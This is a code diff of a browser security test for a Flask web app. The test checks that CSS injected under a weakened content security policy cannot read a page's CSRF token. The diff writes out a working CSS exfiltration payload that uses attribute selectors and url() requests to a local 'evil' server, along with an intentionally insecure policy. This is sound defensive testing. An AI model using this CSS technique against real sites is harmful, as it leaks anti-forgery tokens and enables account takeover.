@@ -6,8 +6,9 @@ from flask import Flask, render_template
 from playwright.sync_api import Page
 
 from app.security.csp_syntax import HTTPS, SELF, UNSAFE_INLINE
-from tests.browser.conftest import Elsewhere, Serve, log_in
-from tests.conftest import MakeApp
+from tests import routes
+from tests.browser.conftest import Elsewhere, Serve
+from tests.conftest import LOGIN, MakeApp
 
 # Where pages like to keep a token.
 ATTRIBUTES = ("content", "value", "title", "data-csrf-token", "data-csrf", "data-token")
@@ -16,33 +17,40 @@ DECOY = "no-token"
 
 
 def test_a_style_reads_no_part_of_it(make_app: MakeApp, serve: Serve, page: Page) -> None:
-    app, elsewhere = make_app(**loose_styles(make_app())), Elsewhere()
+    app, elsewhere = make_app(**insecure_styles(make_app())), Elsewhere()
     evil = serve(elsewhere, https=True).at("127.0.0.1")
     site = serve(app).at("localhost")
 
-    @app.get("/victim")
-    def victim() -> str:
-        injected = f'<i title="{DECOY}"></i><style>{style(evil)}</style></body>'
-        return render_template("base.html").replace("</body>", injected)
+    @app.get("/probe")
+    def probe() -> str:
+        context: dict[str, str] = {}
+        app.update_template_context(context)
+        # The token is text here; the decoy shows that the style reads attributes.
+        shown = f'<template id="probe">{context["csrf_token"]}</template>'
+        injected = f'<i title="{DECOY}"></i><style>{style(evil)}</style>'
+        return render_template("base.html") + shown + injected
 
-    log_in(page, site)
-    page.goto(f"{site}/victim", wait_until="networkidle")
-    assert page.locator("#csrf-token").count() == 1
-    assert list(elsewhere.asked.queue) == [f"/{DECOY}"]
+    page.request.post(f"{site}{routes.LOGIN}", data=LOGIN)
+    page.goto(f"{site}/probe", wait_until="networkidle")
+    assert page.locator("#probe").inner_html()
+    assert list(elsewhere.asked.queue) == [f"/{DECOY}"], (
+        "A page holds the CSRF token in an attribute, where an injected style reads it: "
+        "make it the text of an element."
+    )
 
 
-def loose_styles(app: Flask) -> dict[str, object]:
+def insecure_styles(app: Flask) -> dict[str, object]:
     """A policy that lets styles of strangers in, and images from anywhere."""
-    loose = {"style-src": [SELF, UNSAFE_INLINE], "img-src": [SELF, HTTPS]}
-    return {"CSP": {**app.config["CSP"], **loose}}
+    insecure = {"style-src": [SELF, UNSAFE_INLINE], "img-src": [SELF, HTTPS]}
+    return {"CSP": {**app.config["CSP"], **insecure}}
 
 
 def style(evil: str) -> str:
     """Ask another site for each part that stands in one of the attributes, all in one load."""
     asked = [
-        rule(f":root:has({selectors(part)})", f"--{part}: url({evil}/{part})") for part in told()
+        rule(f":root:has({selectors(part)})", f"--{part}: url({evil}/{part})") for part in parts()
     ]
-    images = ", ".join(f"var(--{part}, none)" for part in told())
+    images = ", ".join(f"var(--{part}, none)" for part in parts())
     return "\n".join([*asked, rule(":root", f"background: {images}")])
 
 
@@ -54,5 +62,5 @@ def selectors(part: str) -> str:
     return ", ".join(f'[{attribute}*="{part}"]' for attribute in ATTRIBUTES)
 
 
-def told() -> list[str]:
+def parts() -> list[str]:
     return [DECOY, *PARTS]
